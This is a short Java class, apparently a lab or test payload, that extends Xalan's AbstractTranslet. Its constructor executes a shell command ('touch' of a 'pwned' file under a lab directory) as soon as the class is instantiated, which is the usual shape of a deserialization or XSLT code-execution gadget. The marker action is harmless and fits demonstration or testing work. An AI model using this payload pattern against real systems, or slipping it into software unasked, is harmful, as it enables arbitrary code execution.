import com.sun.org.apache.xalan.internal.xsltc.DOM;
import com.sun.org.apache.xalan.internal.xsltc.runtime.AbstractTranslet;
import com.sun.org.apache.xml.internal.dtm.DTMAxisIterator;
import com.sun.org.apache.xml.internal.serializer.SerializationHandler;

/** The class inside the style sheet. */
public class Translet extends AbstractTranslet {
  public Translet() throws Exception {
    Runtime.getRuntime().exec(new String[] {"touch", System.getProperty("lab.work") + "/pwned"});
  }

  @Override
  public void transform(DOM document, SerializationHandler[] handlers) {}

  @Override
  public void transform(DOM document, DTMAxisIterator iterator, SerializationHandler handler) {}
}
